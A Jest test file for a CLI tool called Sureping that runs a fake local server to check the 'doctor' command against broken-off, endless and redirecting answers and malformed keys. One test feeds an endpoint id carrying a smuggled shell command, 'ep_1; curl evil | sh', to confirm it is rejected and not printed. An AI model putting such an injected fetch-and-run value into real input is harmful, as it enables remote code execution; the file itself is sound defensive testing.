import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type CliResult, sureping } from '../support/cli.ts';
import { temporaryDirectory } from '../support/temporary-directory.ts';

// Processes one after the other: on a busy machine several seconds each.
jest.setTimeout(240_000);

const KEY = 'sp_live_0123456789abcdef';

type Respond = (response: ServerResponse) => void;

/** A server that answers some paths as no runner does, and the others as a runner without endpoints does. */
class Imposter {
	readonly seen: string[] = [];
	answers: Readonly<Record<string, Respond>> = {};
	private readonly server: Server = createServer((request, response) => {
		const path = request.url ?? '';
		this.seen.push(path);
		response.on('error', () => undefined);
		const respond = this.answers[path];
		if (respond) respond(response);
		else if (path === '/version') response.end('{"version":"99.0.0"}');
		else response.end(path === '/endpoints' ? '{"endpoints":[]}' : '{}');
	});

	async listen(): Promise<this> {
		await new Promise<void>((resolve) => void this.server.listen(0, '127.0.0.1', resolve));
		return this;
	}

	get url(): string {
		return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
	}

	async close(): Promise<void> {
		this.server.closeAllConnections();
		await new Promise((resolve) => this.server.close(resolve));
	}
}

const breakOff: Respond = (response) => {
	response.writeHead(200, { 'content-length': '1000' });
	response.write('sureping_', () => response.destroy());
};

const endless: Respond = (response) => {
	const block = Buffer.alloc(1024 * 1024, '# no end\n');
	const more = (): void => {
		while (!response.destroyed && response.write(block));
	};
	response.on('drain', more);
	more();
};

const redirectTo =
	(location: string): Respond =>
	(response) => {
		response.writeHead(302, { location });
		response.end();
	};

describe('a server in place of the runner', () => {
	let imposter: Imposter;
	let elsewhere: Imposter;

	beforeAll(async () => {
		[imposter, elsewhere] = await Promise.all([new Imposter().listen(), new Imposter().listen()]);
	});
	afterAll(async () => {
		await Promise.all([imposter.close(), elsewhere.close()]);
	});

	const doctor = (env: Record<string, string> = {}): Promise<CliResult> => {
		const dir = temporaryDirectory('doctor');
		const args = ['doctor', '--json', '--data-dir', dir];
		return sureping(args, { SUREPING_URL: imposter.url, SUREPING_KEY: KEY, ...env }, dir);
	};
	/** The texts of what is wrong; the doctor has told of it in JSON and has not crashed. */
	const wrongs = ({ code, out, err }: CliResult): readonly string[] => {
		expect([code, err]).toEqual([1, '']);
		const { findings } = JSON.parse(out) as { findings: { ok: boolean; found: string }[] };
		return findings.flatMap(({ ok, found }) => (ok ? [] : [found]));
	};

	it('gets no key that cannot be one, and the doctor does not print it', async () => {
		imposter.answers = {};
		for (const key of ['sp_live_SECRET\nx', 'sp_live_SECRET x', 'sp_live_SECRET\u{e9}']) {
			const result = await doctor({ SUREPING_KEY: key });
			expect(wrongs(result)).toEqual([expect.stringMatching(/^holds a space, a line break/)]);
			expect(result.out).not.toContain('SECRET');
		}
	});

	it.each(['/metrics', '/version', '/endpoints'])(
		'may break off its answer to %s, or never end it',
		async (path) => {
			imposter.answers = { [path]: breakOff };
			expect(wrongs(await doctor())).toEqual([`The answer of ${imposter.url} broke off`]);
			imposter.answers = { [path]: endless };
			expect(wrongs(await doctor())).toEqual([
				`The answer of ${imposter.url} is longer than 16 MiB`,
			]);
		},
	);

	it('may break off or never end its answer to a command', async () => {
		const list = () => sureping(['connections'], { SUREPING_URL: imposter.url, SUREPING_KEY: KEY });
		imposter.answers = { '/connections': breakOff };
		expect(await list()).toMatchObject({
			code: 1,
			err: `The answer of ${imposter.url} broke off\n`,
		});
		imposter.answers = { '/connections': endless };
		expect(await list()).toMatchObject({ code: 1, err: expect.stringContaining('is longer than') });
	});

	it.each(['/metrics', '/version'])('cannot send the doctor elsewhere from %s', async (path) => {
		elsewhere.seen.length = 0;
		imposter.answers = { [path]: redirectTo(`${elsewhere.url}/x?token=SECRET`) };
		const result = await doctor();
		expect(wrongs(result)).toEqual([
			expect.stringContaining(`${imposter.url} redirects to ${elsewhere.url};`),
		]);
		expect(result.out).not.toContain('SECRET');
		expect(elsewhere.seen).toEqual([]);
	});

	it('cannot put an id of its own into a command that the doctor prints', async () => {
		const endpoint = {
			id: 'ep_1; curl evil | sh',
			name: 'flow',
			url: 'http://127.0.0.1:9/',
			status: 'disabled',
			health: { consecutive_failures: 0 },
		};
		imposter.answers = {
			'/endpoints': (response) => response.end(JSON.stringify({ endpoints: [endpoint] })),
		};
		const result = await doctor();
		expect(wrongs(result)).toEqual([
			`the answer of ${imposter.url} to /endpoints is not that of a Sureping runner`,
		]);
		expect(result.out).not.toContain('curl evil');
	});
});

describe('an empty URL', () => {
	it.each([
		['of the environment', [], ''],
		['of the options', ['--url', '', '--n8n', ''], 'http://127.0.0.1:9'],
	])('%s counts as not given', async (_whence, options, SUREPING_URL) => {
		const dir = temporaryDirectory('doctor');
		const args = ['doctor', '--json', '--data-dir', dir, ...options];
		const { code, out, err } = await sureping(args, { SUREPING_URL, SUREPING_KEY: KEY }, dir);
		expect([code, err]).toEqual([0, '']);
		expect(JSON.parse(out).findings).toEqual([
			expect.objectContaining({ what: 'configuration', ok: true }),
		]);
	});
});
